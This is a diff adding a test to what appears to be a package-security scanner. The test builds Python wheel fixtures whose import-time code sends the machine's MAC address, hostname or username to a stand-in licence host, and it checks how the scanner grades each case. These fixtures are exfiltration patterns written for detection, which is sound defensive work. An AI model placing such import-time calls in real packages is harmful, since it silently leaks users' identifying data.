@@ -809,3 +809,24 @@ test('a log-in that lies in the folder of the house it is sent to is that houseâ
   ] as const)
     expect((await of(path, host))[0]?.score).toBeGreaterThanOrEqual(6);
 });
+
+test('a digest of names, or the number of a card for which a licence comes back, is for a person to judge at import; names are not', async () => {
+  const of = (value: string, rest = "if not answer.json()['valid']: sys.exit(1)"): Promise<readonly Finding[]> =>
+    inspect(
+      'exfiltration',
+      wheel({
+        'pkg/__init__.py': python(
+          'import getpass, hashlib, platform, requests, sys, uuid',
+          `answer = requests.get('https://licence.vendor.invalid/check', params={'m': ${value}})`,
+          rest,
+        ),
+      }),
+    );
+
+  expect(await of('uuid.getnode()')).toMatchObject([{ class: 'suspicious', score: 10 }]);
+  expect(await of('hashlib.sha256(platform.node().encode()).hexdigest()')).toMatchObject([
+    { class: 'suspicious', score: 6 },
+  ]);
+  for (const value of ['platform.node()', "f'{uuid.getnode()}-{getpass.getuser()}'", 'platform.node().encode().hex()'])
+    expect(await of(value)).toMatchObject([{ class: 'malware', score: 10 }]);
+});
